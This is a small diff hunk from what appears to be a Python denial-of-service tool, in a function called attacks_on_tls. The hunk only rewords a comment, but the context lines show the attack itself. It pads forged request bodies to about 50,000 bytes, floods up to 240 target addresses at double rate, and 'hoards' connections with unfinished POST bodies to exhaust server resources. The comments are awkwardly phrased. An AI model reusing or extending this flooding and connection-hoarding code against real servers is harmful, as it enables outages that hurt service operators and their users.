@@ -383,7 +383,7 @@ def attacks_on_tls(arguments):
     async def everything(attack):
         """What makes a connection largest, beside as many unfinished bodies as fit, and great forged ones."""
         great = [body + b"&x=" + b"a" * (50000 - len(body)) for body in attack.forged[:9]]
-        # Who connects behind thousands of handshakes brings little, so they come last.
+        # Who connects behind the handshakes of thousands brings little, so the thousands come last.
         await asyncio.gather(
             attack.flood(arguments.rate * 2, ADDRESSES[:240], great),
             attack.hoard(hoarders // 5, POST % 60000 + b"a" * 15000),
